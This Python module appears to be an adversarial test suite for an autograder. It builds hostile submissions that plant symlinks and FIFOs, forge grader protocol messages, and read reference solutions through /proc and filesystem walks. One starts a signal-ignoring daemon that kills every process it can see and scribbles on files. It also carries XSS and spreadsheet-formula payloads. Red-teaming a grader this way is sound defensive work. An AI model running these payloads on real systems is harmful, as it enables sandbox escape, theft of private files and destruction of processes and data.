"""Hostile submissions against ``python -m autograder grade``, written the way an attacker would.

``build(dest, release_dir, ctx)`` writes one submission per attack into ``dest`` and returns
``{student id as graded: Attack}``. Every attack is a copy of the release with the student's
edits: reference solutions (so that what the attack costs is visible exercise by exercise)
plus a payload appended to a helpers module. A payload that fails raises a message that starts
with its marker (``ATK-...``), so the report shows that it ran and what it saw; a payload that
succeeds writes a canary file outside the sandbox, or makes an exercise pass that it could only
pass with the reference, or leaks reference text into the outputs.

``ctx`` holds what an attacker on the same machine could know or guess: the token that names
every file the attacks write, the canary folder, the absolute paths of the grader's folders and
of course checkouts.
"""

import html
import json
import os
import re
import shutil
import socket
import unicodedata
import zipfile
from dataclasses import dataclass, field
from functools import lru_cache
from html.parser import HTMLParser
from pathlib import Path

from autograder import untrusted
from autograder.assignment import check_cells, exercises, regions
from autograder.assignment.hidden_tests import per_run
from autograder.authoring import release, stubs
from autograder.intake import submission
from autograder.paths import ROOT

MODULES = tuple(exercises.MODULES)
EXERCISE_MODULE = regions.module_by_exercise()
HTML_MARK = "alert(81"  # every HTML payload calls alert(81xx)


@dataclass
class Attack:
    row: str
    make: object  # make(folder, ctx) edits a copy of the release (with the solutions) in place
    points: dict = field(default_factory=dict)  # exercise -> expected points; the others: full marks
    flags: tuple = ()  # substrings expected in the flags column
    messages: dict = field(default_factory=dict)  # exercise -> substring expected in one of its part messages
    base: str = "solutions"  # "solutions", "stubs" or "empty"
    zip: bool = False
    folder_name: str = None  # the name in the submissions folder, when it is not the student id


# ----------------------------------------------------------------------------- building blocks


def _solution(module):
    return (stubs.SOLUTIONS / f"{module}.py").read_text()


def _append(folder, module, text):
    path = folder / "helpers" / f"{module}.py"
    path.write_text(path.read_text() + "\n\n# ---- added by the student ----\n" + text.strip("\n") + "\n")


def _header(ctx):
    return f"import os as _atk_os\nimport sys as _atk_sys\n\n_ATK = {json.dumps(ctx)!r}\n_ATK = __import__('json').loads(_ATK)\n"


def _wrap(name, body):
    """Replace the module's ``name`` by a wrapper that runs ``body`` (indented 4) and then the original."""
    body = "\n".join("    " + line if line else "" for line in body.strip("\n").splitlines())
    return (
        f"\n_atk_orig_{name} = {name}\n\n\ndef {name}(*args, **kwargs):\n{body}\n    return _atk_orig_{name}(*args, **kwargs)\n"
    )


IN_CHECK = "any(f.f_code.co_name == 'run_check' for f in _atk_frames())"

FRAMES = """
def _atk_frames():
    f = _atk_sys._getframe()
    while f is not None:
        yield f
        f = f.f_back
"""

# Every directory the sandbox might be able to write to, and the names of what the grader writes.
PLANT = '''
GRADER_NAMES = ["grades.csv", "report.json", "feedback", "gradebook.db", "nbgrader_config.py", "grading.ipynb",
                "grading.html", ".grading.lock", "sandbox_runner.py", "standins.py", "calls.py", "job.json", "inputs", "helpers",
                "box0", "box1", "box2", "ddpm-sbx-x", "ddpm-grade-x", "RESULT", "READY", "good_a.html"]


def _atk_dirs():
    dirs = {"/", "/tmp", "/dev/shm", "/var/tmp", "/run", "/dev", "/dev/mqueue", "/box", "/box/helpers", "/box/inputs",
            _atk_os.getcwd(), _atk_os.environ.get("HOME", "/tmp"), _atk_os.environ.get("TMPDIR", "/tmp")}
    for path in _ATK["grader_paths"]:  # the grader's folders, recreated in the sandbox's own view if it can
        try:
            _atk_os.makedirs(path, exist_ok=True)
        except OSError:
            pass
        dirs.add(path)
    for top in ("/", "/tmp", "/dev", "/box", "/proc/self/cwd"):
        try:
            for root, subdirs, _files in _atk_os.walk(top):
                if root.count("/") > 4 or root.startswith(("/proc", "/sys", "/usr")):
                    subdirs[:] = []
                dirs.add(root)
        except OSError:
            pass
    return sorted(dirs)


def _atk_plant(kind, target_of, prefix=""):
    """Plant ``kind`` ("symlink", "relative" or "fifo") at every grader name in every directory; count what worked."""
    planted, where = 0, set()
    for d in _atk_dirs():
        for name in GRADER_NAMES:
            path = _atk_os.path.join(d, prefix + name)
            try:
                if kind == "fifo":
                    _atk_os.mkfifo(path)
                elif kind == "relative":
                    _atk_os.symlink(_atk_os.path.relpath(target_of(name), d), path)
                else:
                    _atk_os.symlink(target_of(name), path)
                planted += 1
                where.add(d)
            except OSError:
                pass
    return planted, sorted(where)
'''


# ----------------------------------------------------------------------------- rows 1 and 2: symlinks, restarts


def _symlinks(folder, ctx):
    # check:ddim_step: plant links at every grader path, then kill the process (the grader restarts the sandbox and
    # writes a fresh box); the hidden ddim_step task plants again, relative ones too, and reports what it saw.
    # schedules.py, imported first by every new sandbox process, looks for the links an earlier process planted.
    _append(
        folder,
        "schedules",
        _header(ctx)
        + PLANT
        + """
_ATK_PERSISTED = [p for p in ("/tmp/grades.csv", "/dev/shm/grades.csv", "/tmp/feedback") if _atk_os.path.lexists(p)]
"""
        + _wrap(
            "cosine_beta_schedule",
            """
if _ATK_PERSISTED:
    raise RuntimeError(f"ATK-SYMLINK links from an earlier sandbox process are still there: {_ATK_PERSISTED}")
""",
        ),
    )
    _append(
        folder,
        "ddim",
        _header(ctx)
        + FRAMES
        + PLANT
        + _wrap(
            "ddim_step",
            f"""
canary = _ATK["canary"]
if {IN_CHECK}:
    _atk_plant("symlink", lambda name: _ATK["rootfile"])
    _atk_os._exit(3)
n_abs, where = _atk_plant("symlink", lambda name: canary + "/followed-" + name)
n_rel, _ = _atk_plant("relative", lambda name: canary + "/followed-relative-" + name, prefix="rel-")
box_writable = any(w.startswith("/box") for w in where)
raise RuntimeError(f"ATK-SYMLINK planted {{n_abs}}+{{n_rel}} links; box writable: {{box_writable}}")
""",
        ),
    )


# ----------------------------------------------------------------------------- row 3: FIFOs


def _fifos(folder, ctx):
    # in the hand-in: helpers/forward.py, a module of the student's own, the provided checks.py and a notebook are
    # FIFOs (a reader that opens them blocks forever), plus a socket; in the sandbox: FIFOs everywhere it can write,
    # and stdin (where the grader writes dependencies) swapped for a FIFO during ddim_step's task: the task after it
    # hangs until its watchdog stops the sandbox, and the tasks after that run in a fresh one.
    _append(
        folder,
        "schedules",
        _header(ctx) + PLANT + "\n_ATK_FIFOS = _atk_plant('fifo', None)\n",
    )
    _append(
        folder,
        "ddim",
        _header(ctx)
        + FRAMES
        + _wrap(
            "ddim_step",
            f"""
if not {IN_CHECK} and not _atk_os.path.exists("/tmp/atk-stdin-fifo"):
    _atk_os.mkfifo("/tmp/atk-stdin-fifo")
    _atk_os.dup2(_atk_os.open("/tmp/atk-stdin-fifo", _atk_os.O_RDWR), 0)
""",
        ),
    )
    for path in (
        folder / "helpers" / "forward.py",
        folder / "helpers" / "checks.py",
        folder / "notebooks" / "02_forward_diffusion.ipynb",
    ):
        path.unlink()
        os.mkfifo(path)
    os.mkfifo(folder / "helpers" / "foo.py")
    os.mkfifo(folder / "notes.ipynb")
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(str(folder / "helpers" / "sock.py"))


# ----------------------------------------------------------------------------- rows 4 and 5: links in the hand-in


def _links_inside(folder, ctx):
    # a hand-in made of the stubs, whose exercise modules are links to the reference: relative (resolving from
    # where the hand-in lies), absolute, and to another checkout; a notebook and a folder as links too. Its own
    # losses.py, at import, leaves relative links in its working folder and tries to read through them.
    helpers = folder / "helpers"
    solutions = ROOT / "solutions"
    for module, target in (
        ("schedules", os.path.relpath(solutions / "schedules.py", helpers)),
        ("forward", str(solutions / "forward.py")),
        ("unet", str(Path(ctx["checkouts"][0]) / "solutions" / "unet.py")),
        ("sampling", os.path.relpath(solutions / "sampling.py", helpers)),
    ):
        (helpers / f"{module}.py").unlink()
        (helpers / f"{module}.py").symlink_to(target)
    (helpers / "extra.py").symlink_to(os.path.relpath(solutions / "ddim.py", helpers))
    nb = folder / "notebooks" / "01_noise_schedules.ipynb"
    nb.unlink()
    nb.symlink_to(os.path.relpath(ROOT / "notebooks" / "01_noise_schedules.ipynb", nb.parent))
    (folder / "solutions").symlink_to(os.path.relpath(solutions, folder))
    (folder / "hidden").symlink_to(ROOT / "autograder" / "assignment" / "hidden_tests")
    _append(
        folder,
        "losses",
        _header(ctx)
        + """
def _atk_steal():
    here = _atk_os.getcwd()
    for up in range(1, 8):
        for root in [_ATK["repo"], *_ATK["checkouts"]]:
            name = f"atk-link-{up}-{abs(hash(root)) % 1000}"
            try:
                _atk_os.symlink("../" * up + root.lstrip("/") + "/solutions", _atk_os.path.join(here, name))
                with open(_atk_os.path.join(here, name, "forward.py")) as f:
                    return f.read()
            except OSError:
                pass
    return ""


_ATK_STOLEN = _atk_steal()
if _ATK_STOLEN:
    raise ImportError("ATK-LINKS stole: " + _ATK_STOLEN[-200:])
""",
    )


def _helpers_link(folder, ctx):
    shutil.rmtree(folder / "helpers")
    (folder / "helpers").symlink_to(os.path.relpath(ROOT / "solutions", folder))


def _top_link(dest, ctx):
    """The submission itself is a link to a complete solution (another student's folder)."""
    (dest / "atk_toplink").symlink_to("good_a")


# ----------------------------------------------------------------------------- row 6: other checkouts


def _other_checkouts(folder, ctx):
    # extract looks for any solutions/schedules.py or hidden_tests on the machine (known checkouts first, then a walk
    # of /), and uses the reference extract if it finds one; otherwise it says where it looked.
    _append(
        folder,
        "schedules",
        _header(ctx)
        + """
import glob as _atk_glob
import importlib.util as _atk_util
import time as _atk_time

_ATK_FOUND = None


def _atk_find():
    guesses = [*_ATK["checkouts"], _ATK["repo"], "/work/*", "/home/*/*", "/root/*", "/opt/*", "/opt/*/*", "/srv/*",
               "/var/tmp/*", "/var/tmp/*/*", "/tmp/*", "/tmp/*/*", "/usr/local/src/*", "/usr/local/src/*/*", "/usr/src/*"]
    for pattern in guesses:
        for root in _atk_glob.glob(pattern):
            for candidate in (root + "/solutions/schedules.py", root + "/autograder/assignment/hidden_tests/__init__.py"):
                if _atk_os.path.isfile(candidate):
                    return candidate
    start, seen = _atk_time.monotonic(), 0
    for root, dirs, files in _atk_os.walk("/"):
        seen += 1
        if root.startswith(("/proc", "/sys", "/dev")) or root.count("/") > 6 or _atk_time.monotonic() - start > 4:
            dirs[:] = []
        dirs[:] = [d for d in dirs if d not in ("site-packages", "dist-packages", "__pycache__", "locale", "man")]
        if root.endswith("/solutions") and "schedules.py" in files:
            return root + "/schedules.py"
        if root.endswith("/hidden_tests") and "__init__.py" in files:
            return root + "/__init__.py"
    return f"nothing ({seen} folders)"


def _atk_reference():
    global _ATK_FOUND
    if _ATK_FOUND is None:
        _ATK_FOUND = _atk_find()
    if not _ATK_FOUND.endswith("schedules.py"):
        raise RuntimeError(f"ATK-CHECKOUT found {_ATK_FOUND}")
    spec = _atk_util.spec_from_file_location("atk_reference", _ATK_FOUND)
    module = _atk_util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def extract(a, t, x_shape):
    return _atk_reference().extract(a, t, x_shape)
""",
    )


# ----------------------------------------------------------------------------- row 7: reference dependencies, protocol


def _deps(folder, ctx):
    # p_losses receives the reference q_sample (and extract) as a dependency: find its source in the runner's
    # frames and raise it, one line per part: plainly for l2, with zero-width spaces between the characters for l1/huber.
    # (In the self-check, before any dependency arrived, it runs the student's own p_losses.)
    _append(
        folder,
        "losses",
        _header(ctx)
        + FRAMES
        + """
def _atk_dep_source():
    for f in _atk_frames():
        for value in f.f_locals.values():
            if isinstance(value, dict) and isinstance(value.get("deps"), dict) and value["deps"]:
                return "\\n".join(value["deps"].values())
    return ""
"""
        + _wrap(
            "p_losses",
            """
source = _atk_dep_source()
if not source:
    if any(f.f_code.co_name == "run_check" for f in _atk_frames()):
        return _atk_orig_p_losses(*args, **kwargs)
    raise RuntimeError("ATK-DEPS no dependency source visible")
lines = [line.strip() for line in source.splitlines()]
if kwargs.get("loss_type", "l2") == "l2":
    raise RuntimeError("ATK-DEPS " + next(line for line in lines if "sqrt_one_minus_alphas_cumprod_t * noise" in line))
raise RuntimeError("ATK-DEPS " + "\\u200b".join(next(line for line in lines if "a[t.to(a.device)]" in line)))
""",
        ),
    )


def _protocol(folder, ctx):
    # the check of ddim_step writes fake protocol lines and frames to every fd, then kills its process; after the
    # restart, p_sample_loop (which receives a reference dependency) writes fake READY/IMPORT/DONE lines and frames
    # for other tasks to every fd, then answers correctly.
    _append(
        folder,
        "sampling",
        _header(ctx)
        + FRAMES
        + '''
import io as _atk_io

import numpy as _atk_np


def _atk_frame(task, **arrays):
    buffer = _atk_io.BytesIO()
    _atk_np.savez(buffer, **arrays)
    data = buffer.getvalue()
    return f"RESULT {task} {len(data)}\\n".encode() + data


def _atk_spam(text, current):
    """Fake lines, and frames for every task but ``current`` (a frame for the task being run is its answer)."""
    frames = {
        "cosine_beta_schedule": {"c0/error": _atk_np.array("FORGED " + text)},
        "ddim_step": {"c0/out": _atk_np.zeros(3)},
        "check:cosine_beta_schedule": {"ok": _atk_np.array(False), "message": _atk_np.array("FORGED check")},
        "check:ddim_step": {"ok": _atk_np.array(True), "message": _atk_np.array("FORGED check")},
    }
    forged = (
        b'READY {"errors": {"schedules": "FORGED-IMPORT-ERROR ' + text.encode() + b'"}, "replaced": {"forward": ["FORGED"]}}\\n'
        + b"IMPORT schedules\\nDONE\\nRESULT\\nRESULT x\\nRESULT ddim_step -1\\n"
        + b"".join(_atk_frame(task, **arrays) for task, arrays in frames.items() if task != current)
        + b"READY {}\\n"
    )
    for fd in range(0, 21):
        try:
            _atk_os.write(fd, forged)
        except OSError:
            pass


def _atk_dep_text():
    for f in _atk_frames():
        for value in f.f_locals.values():
            if isinstance(value, str) and "__targets__" in value:
                return value.replace("\\n", " ")[:500]
    return ""
'''
        + _wrap("p_sample_loop", "_atk_spam(_atk_dep_text(), None)\n"),
    )
    _append(
        folder,
        "ddim",
        _header(ctx)
        + FRAMES
        + _wrap(
            "ddim_step",
            f"""
from helpers.sampling import _atk_spam

in_check = {IN_CHECK}
_atk_spam("", "check:ddim_step" if in_check else "ddim_step")
if in_check:
    _atk_os._exit(3)
raise RuntimeError("ATK-PROTOCOL the forged frames were ignored")
""",
        ),
    )


# ----------------------------------------------------------------------------- row 8: HTML


HTML_PAYLOADS = {
    "cosine": "<script>alert(8101)</script> <img src=x onerror=alert(8102)> [x](javascript:alert(8103))",
    "import": '<script>alert(8104)</script><a href="javascript:alert(8109)">x</a>',
    "print": "<script>alert(8105)</script>",
    "file": "schedules (<img src=x onerror=alert(8106)>).py",
    "notebook": "01 <img src=x onerror=alert(8107)>.ipynb",
    "member": "notes <script>alert(8108)</script>.py",
}


def _html(folder, ctx):
    _append(
        folder,
        "schedules",
        _wrap("cosine_beta_schedule", f"raise RuntimeError({HTML_PAYLOADS['cosine']!r})\n")
        + _wrap("extract", f"print({HTML_PAYLOADS['print']!r})\n"),
    )
    (folder / "helpers" / "schedules.py").rename(folder / "helpers" / HTML_PAYLOADS["file"])
    ddim = folder / "helpers" / "ddim.py"
    ddim.write_text(f"raise ImportError({HTML_PAYLOADS['import']!r})\n" + ddim.read_text())
    nb = folder / "notebooks" / "01_noise_schedules.ipynb"
    nb.rename(nb.parent / HTML_PAYLOADS["notebook"])


def _html_zip(zip_path):
    """A corrupt member whose name is HTML (it is named in the skipped-files flag)."""
    with zipfile.ZipFile(zip_path, "a", zipfile.ZIP_STORED) as archive:
        archive.writestr(HTML_PAYLOADS["member"], "# notes\n" + "y = 2\n" * 200)
    data = bytearray(zip_path.read_bytes())
    at = data.find(b"y = 2\ny = 2")
    data[at : at + 40] = b"#" * 40
    zip_path.write_bytes(bytes(data))


# ----------------------------------------------------------------------------- rows 10 to 13


def _leftovers(folder, ctx):
    # at every import: files named with the token wherever it can write, and 300 MB in its working folder
    _append(
        folder,
        "forward",
        _header(ctx)
        + """
def _atk_litter():
    token = _ATK["token"]
    written = 0
    for d in ("/tmp", "/dev/shm", "/var/tmp", _atk_os.getcwd(), _atk_os.environ.get("HOME", "/tmp"), "/box", "/"):
        try:
            with open(_atk_os.path.join(d, f"left-{token}.txt"), "w") as f:
                f.write(token)
        except OSError:
            pass
    chunk = b"\\0" * (8 << 20)
    for i in range(8):
        for d in (_atk_os.getcwd(), "/dev/shm"):
            try:
                with open(_atk_os.path.join(d, f"big-{token}-{i}.bin"), "wb") as f:
                    for _ in range(5):
                        f.write(chunk)
                        written += len(chunk)
            except OSError:
                pass
    return written


_ATK_WRITTEN = _atk_litter()
""",
    )


DAEMON = """
import os, signal, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
start = time.time()
while time.time() - start < 120:
    for path in ATK_TARGETS:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as f:
                f.write("PWNED-ATK_TOKEN")
        except OSError:
            pass
    if time.time() - start > 40:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
    time.sleep(0.5)
"""


def _daemon(folder, ctx):
    # at import of sampling.py: double fork, setsid, ignore SIGTERM/SIGHUP, exec a python whose command line carries
    # the token; it keeps writing to the canary folder and the grader's outputs, and later kills what it can see.
    targets = [f"{ctx['canary']}/daemon-{ctx['token']}", *ctx["daemon_targets"]]
    code = DAEMON.replace("ATK_TARGETS", repr(targets)).replace("ATK_TOKEN", ctx["token"])
    code = f"# ATKDAEMON-{ctx['token']}\n" + code
    _append(
        folder,
        "sampling",
        _header(ctx)
        + f"""
def _atk_daemonize():
    if _atk_os.fork() != 0:
        return
    try:
        _atk_os.setsid()
        if _atk_os.fork() != 0:
            _atk_os._exit(0)
        _atk_os.execv(_atk_sys.executable, [_atk_sys.executable, "-c", {code!r}])
    finally:
        _atk_os._exit(0)


_atk_daemonize()
""",
    )


KILLER = """
import glob as _atk_glob
import signal as _atk_signal


def _atk_kill_everything():
    killed, scribbled = 0, 0
    for pid in _atk_os.listdir("/proc"):
        if pid.isdigit() and int(pid) != _atk_os.getpid():
            try:
                _atk_os.kill(int(pid), _atk_signal.SIGKILL)
                killed += 1
            except OSError:
                pass
    try:
        _atk_os.kill(-1, _atk_signal.SIGKILL)
    except OSError:
        pass
    targets = set()
    for pattern in ("/tmp/ddpm-*/**", "/tmp/**", "/var/tmp/ddpm-*/**", "/dev/shm/**", *(p + "/**" for p in _ATK["grader_paths"])):
        targets.update(_atk_glob.glob(pattern, recursive=True))
    for path in targets:
        try:
            if _atk_os.path.isfile(path):
                with open(path, "a") as f:
                    f.write("garbage")
                scribbled += 1
        except OSError:
            pass
    return killed, scribbled
"""


def _killer(folder, ctx):
    _append(
        folder,
        "losses",
        _header(ctx)
        + KILLER
        + _wrap(
            "p_losses",
            """
killed, scribbled = _atk_kill_everything()
raise RuntimeError(f"ATK-KILLER sent SIGKILL to {killed} processes, scribbled on {scribbled} files")
""",
        ),
    )


def _proc(folder, ctx):
    # extract reads the reference through /proc: mountinfo, /proc/1/root, /proc/<ppid>/cwd, /proc/*/cwd|root, environ
    _append(
        folder,
        "schedules",
        _header(ctx)
        + """
import importlib.util as _atk_util

_ATK_FOUND = None


def _atk_via_proc():
    roots = {_ATK["repo"], *_ATK["checkouts"]}
    try:
        for line in open("/proc/self/mountinfo"):
            fields = line.split()
            roots.update({fields[3], fields[4]})
    except OSError:
        pass
    pids = [p for p in _atk_os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        try:
            env = open(f"/proc/{pid}/environ", "rb").read().split(b"\\0")
            roots.update(v.split(b"=", 1)[1].decode() for v in env if b"=" in v and v.split(b"=", 1)[1].startswith(b"/"))
        except OSError:
            pass
    prefixes = ["", "/proc/1/root", f"/proc/{_atk_os.getppid()}/root", f"/proc/{_atk_os.getppid()}/cwd"]
    prefixes += [f"/proc/{pid}/root" for pid in pids] + [f"/proc/{pid}/cwd" for pid in pids]
    tried = 0
    for prefix in prefixes:
        for root in sorted(roots):
            base = root
            while base not in ("", "/"):
                for candidate in (prefix + base + "/solutions/schedules.py", prefix + base + "/../solutions/schedules.py"):
                    tried += 1
                    try:
                        with open(candidate):
                            return candidate
                    except OSError:
                        pass
                base = _atk_os.path.dirname(base)
    for pid in pids:
        try:
            if _atk_os.path.isfile(f"/proc/{pid}/cwd/solutions/schedules.py"):
                return f"/proc/{pid}/cwd/solutions/schedules.py"
        except OSError:
            pass
    return f"nothing through /proc ({tried} paths, {len(pids)} processes, {len(roots)} roots)"


def extract(a, t, x_shape):
    global _ATK_FOUND
    if _ATK_FOUND is None:
        _ATK_FOUND = _atk_via_proc()
    if not _ATK_FOUND.endswith("schedules.py"):
        raise RuntimeError(f"ATK-PROC found {_ATK_FOUND}")
    spec = _atk_util.spec_from_file_location("atk_reference", _ATK_FOUND)
    module = _atk_util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.extract(a, t, x_shape)
""",
    )


def _nothing(folder, ctx):
    return None


# ----------------------------------------------------------------------------- the batch


HYPERLINK_ID = '=HYPERLINK("http:evil.example","click")'


def graded_id(name):
    """The id the grader gives a hand-in named ``name`` (alone in its folder)."""
    return submission.assign_ids([name])[0][1]


def attacks():
    pts = check_cells.exercise_points()
    zero = {e: 0 for e in pts}
    return {
        "good_a": Attack("correct", _nothing),
        "good_b": Attack("correct", _nothing, zip=True, flags=("zip submission",)),
        "1+1": Attack("csv", _nothing, folder_name="+1+1", flags=("student id '+1+1' is not a plain id",)),
        graded_id(HYPERLINK_ID): Attack(
            "csv", _nothing, zero, base="empty", folder_name=HYPERLINK_ID, flags=("is not a plain id",)
        ),
        graded_id("@SUM(1)"): Attack("csv", _nothing, zero, base="empty", folder_name="@SUM(1)", flags=("is not a plain id",)),
        "atk_symlink": Attack(
            "symlinks",
            _symlinks,
            {"ddim_step": 0},
            flags=("ddim_step: crashed",),
            messages={"ddim_step": "ATK-SYMLINK planted"},
        ),
        "atk_fifo": Attack(
            "fifo",
            _fifos,
            # ddim_step's task swaps stdin; the next task (p_losses_cfg's first) times out, the sandbox restarts
            {"q_sample": 0, "p_losses_cfg": 0.5},
            flags=(
                "FIFOs, sockets or devices",
                "helpers/forward.py missing",
                "notebook 02_forward_diffusion.ipynb missing",
                "p_losses_cfg.mask: timeout",
            ),
        ),
        "atk_links_inside": Attack(
            "links", _links_inside, zero, base="stubs", flags=("symbolic links", "helpers/schedules.py missing")
        ),
        "atk_helpers_link": Attack("links", _helpers_link, zero, flags=("symbolic links", "helpers/schedules.py missing")),
        "atk_toplink": Attack("links", None, zero, base="link", flags=("is a symbolic link: not followed",)),
        "atk_checkouts": Attack(
            "checkouts", _other_checkouts, {"extract": 0}, messages={"extract": "ATK-CHECKOUT found nothing"}
        ),
        # withheld only when it quotes the grader: the attack found the dependency's source
        "atk_deps": Attack("deps", _deps, {"p_losses": 0}, messages={"p_losses": untrusted.WITHHELD}),
        "atk_protocol": Attack(
            "protocol",
            _protocol,
            {"ddim_step": 0},
            flags=("ddim_step: crashed",),
            messages={"ddim_step": "ATK-PROTOCOL the forged frames were ignored"},
        ),
        "atk_html": Attack(
            "html",
            _html,
            {"cosine_beta_schedule": 0, "ddim_step": 0},
            zip=True,
            flags=("does not import", "renamed to", "unreadable zip members", "not found; graded"),
        ),
        "atk_leftovers": Attack("leftovers", _leftovers),
        "atk_daemon": Attack("daemon", _daemon),
        "atk_killer": Attack("killer", _killer, {"p_losses": 0}, messages={"p_losses": "ATK-KILLER sent SIGKILL"}),
        "atk_proc": Attack("proc", _proc, {"extract": 0}, messages={"extract": "ATK-PROC found nothing through /proc"}),
    }


def build(dest, release_dir, ctx, names=None):
    """Write the attacks into ``dest``; returns ``{student id as graded: Attack}``."""
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    selected = {k: v for k, v in attacks().items() if names is None or k in names}
    for sid, attack in selected.items():
        name = attack.folder_name or sid
        if attack.base == "link":
            continue
        folder = dest / (name + ".tmp" if attack.zip else name)
        if attack.base == "empty":
            folder.mkdir()
            continue
        shutil.copytree(release_dir, folder)
        if attack.base == "solutions":
            for module in MODULES:
                (folder / "helpers" / f"{module}.py").write_text(_solution(module))
        attack.make(folder, dict(ctx, sid=sid))
        if attack.zip:
            with zipfile.ZipFile(dest / f"{name}.zip", "w", zipfile.ZIP_DEFLATED) as archive:
                for path in sorted(folder.rglob("*")):
                    if path.is_file():
                        archive.write(path, path.relative_to(folder))
            shutil.rmtree(folder)
            if sid == "atk_html":
                _html_zip(dest / f"{name}.zip")
    if "atk_toplink" in selected:
        _top_link(dest, ctx)
    return selected


def expected_points(attack):
    expected = dict(check_cells.exercise_points())
    expected.update(attack.points)
    return expected


# ----------------------------------------------------------------------------- what must never reach an output


@lru_cache(maxsize=1)
def secret_lines():
    """Lines of the reference solutions and of the dependency code sent to sandboxes, minus public ones."""
    public = {line.strip() for text in stubs.generate().values() for line in text.splitlines()}
    lines = set(release.solution_lines())
    for source in per_run.dep_sources().values():
        for line in source.splitlines():
            line = line.strip()
            if len(line.replace(" ", "")) >= 14 and not line.startswith(("#", "import ", "from ", "def ", "class ")):
                lines.add(line)
    return tuple(sorted(line for line in lines if line not in public))


@lru_cache(maxsize=1)
def _secret_keys():
    return tuple((line, re.sub(r"\s+", "", line)) for line in secret_lines())


def normalized(text):
    """Text as a reader sees it: tags dropped, entities and markdown escapes undone, control characters and
    whitespace removed (a leak spelt with zero-width characters between its letters is still a leak)."""
    text = html.unescape(re.sub(r"<[^>]*>", "", text))
    text = untrusted.visible(text).replace("\\", "")
    return re.sub(r"\s+", "", text)


# Latin look-alikes NFKC keeps apart (Cyrillic and Greek), written here apart from untrusted's own table.
_LOOKALIKES = {"\u0430": "a", "\u0435": "e", "\u043e": "o", "\u0440": "p", "\u0441": "c", "\u0445": "x", "\u0443": "y",
               "\u0456": "i", "\u0455": "s", "\u0458": "j", "\u0501": "d", "\u043a": "k", "\u043c": "m", "\u043d": "h",
               "\u0442": "t", "\u0432": "b", "\u0261": "g", "\u03b1": "a", "\u03bf": "o", "\u03c1": "p", "\u03ba": "k",
               "\u03c7": "x", "\u03c5": "u", "\u03bd": "v", "\u03b9": "i"}  # fmt: skip


def _folded(text):
    """``normalized`` text, also NFKC (fullwidth forms), case-folded, look-alikes made Latin."""
    text = unicodedata.normalize("NFKC", normalized(text)).casefold()
    return "".join(_LOOKALIKES.get(ch, ch) for ch in text)


@lru_cache(maxsize=1)
def _secret_spellings():
    """``(line, spelling)`` for each secret line, forwards and backwards: its tokens and its words in reverse
    order, and each of those (and the line itself) character-reversed."""
    out = []
    for line in secret_lines():
        folded = unicodedata.normalize("NFKC", line).casefold()
        tokens = re.findall(r"\w+|[^\w\s]", folded)
        forms = {"".join(tokens), "".join(tokens[::-1]), "".join(folded.split()[::-1])}
        out += [(line, form) for form in sorted(forms | {form[::-1] for form in forms})]
    return tuple(out)


def leaks(text):
    """What of the grader's private code ``text`` quotes, however spelt: spaced out, with zero-width characters,
    fullwidth or look-alike letters, in any case, reversed by characters, tokens or words."""
    found = []
    folded = _folded(text)
    raw = re.sub(r"\s+", "", untrusted.visible(text))
    for line, key in _secret_keys():
        if key in raw:
            found.append(line)
    found += [line for line, form in _secret_spellings() if form in folded and line not in found]
    fingerprints, _names = release.hidden_test_fingerprints()
    found += [f for f in (*fingerprints, "BEGIN HIDDEN TESTS", "BEGIN SOLUTION") if f in text]
    return list(dict.fromkeys(found))


class DangerousHTML(HTMLParser):
    """Executable constructs that carry an attack's payload (``alert(81xx)``): script bodies, event-handler
    attributes, ``javascript:`` URLs, tags made from the payload."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.scripts = 0
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self.scripts += 1
            self._in_script = True
        for name, value in attrs:
            value = value or ""
            if HTML_MARK in value or (name.startswith("on") and "alert" in value):
                self.found.append(f"<{tag} {name}={value!r}>")
            if "javascript:" in value.replace(" ", "").lower() and "alert" in value:
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and HTML_MARK in data:
            self.found.append(f"<script>{data[:80]}")


def dangerous_html(text):
    parser = DangerousHTML()
    parser.feed(text)
    parser.close()
    return parser.found, parser.scripts
